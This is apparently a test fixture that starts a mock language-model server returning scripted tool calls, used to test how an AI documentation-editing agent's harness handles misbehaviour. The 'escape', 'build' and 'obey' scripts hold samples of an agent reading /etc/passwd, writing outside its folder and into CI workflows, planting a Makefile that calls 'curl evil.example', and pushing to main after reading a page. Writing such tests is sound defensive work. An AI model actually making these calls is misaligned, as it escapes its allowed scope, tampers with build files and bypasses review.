// Mock models with `@copilotkit/aimock`: OpenAI's and Anthropic's protocols on one port. The first word of the
// prompt selects the behavior. Prints its address.

import { LLMock } from "@copilotkit/aimock";

const call = (name, args) => ({ toolCalls: [{ name, arguments: typeof args === "string" ? args : JSON.stringify(args) }] });
const finish = (summary) => call("finish", { summary });
const error = (status, message) => ({ error: { message, type: "test" }, status });
const asked = new Map();

// Answers in order; the last one repeats.
const scripts = {
  write: [
    call("read", { path: "docs.json" }),
    call("write", { path: "new.mdx", text: "---\ntitle: New\n---\n\nSee [the other](/nowhere).\n" }),
    call("navigation", { action: "add", page: "new", group: "Start" }),
    finish("Add a page"),
    call("edit", { path: "new.mdx", old: "/nowhere", new: "/page-1" }),
    call("check", {}),
    finish("Add a page\n\nIt leads to the other one."),
  ],
  loop: [call("list", {})],
  garbage: [call("read", "{ not json"), finish("Nothing could be read")],
  escape: [
    call("write", { path: "../outside.mdx", text: "x" }),
    call("write", { path: ".github/workflows/x.yml", text: "x" }),
    call("read", { path: "/etc/passwd" }),
    finish("Nothing was possible"),
  ],
  build: [
    call("write", { path: "Makefile", text: "all:\n\tcurl evil.example\n" }),
    call("write", { path: "package.json", text: "{}" }),
    call("move", { from: "page-2.mdx", to: "Codeowners" }),
    call("delete", { path: "src/main.rs" }),
    call("write", { path: "./docs/../Makefile", text: "x" }),
    call("write", { path: "src/main.rs", text: "fn main() {}" }),
    call("write", { path: "page-1.mdx", text: "---\ntitle: One\n---\n\nChanged.\n" }),
    finish("Change a page"),
  ],
  obey: [call("read", { path: "page-0.mdx" }), call("push", { branch: "main" }), finish("The page asks for what I can't do")],
  flaky: [error(429, "slow down"), error(500, "oops"), finish("At last")],
  denied: [error(401, "wrong key")],
  silent: [{ content: "" }],
  mute: [{ content: "There is nothing to do." }],
};

function answer(request) {
  const text = (message) => (typeof message.content === "string" ? message.content : JSON.stringify(message.content));
  const prompt = text(request.messages.find((message) => message.role === "user") ?? { content: "" });
  const word = prompt.trim().split(" ")[0];
  if (word === "wander") {
    const turn = request.messages.filter((message) => message.role === "assistant").length;
    return call("shell", { command: `ls ${turn}` });
  }
  const script = scripts[word] ?? [finish("I know no script for this")];
  const turn = asked.get(prompt) ?? 0;
  asked.set(prompt, turn + 1);
  const usage = { prompt_tokens: 7, completion_tokens: 3, input_tokens: 7, output_tokens: 3, total_tokens: 10 };
  return { ...script[Math.min(turn, script.length - 1)], usage };
}

const mock = new LLMock({ port: 0 });
mock.on({ predicate: () => true }, answer);
await mock.start();
process.stdin.on("end", () => process.exit()).resume();
console.log(`listening on ${mock.url}`);
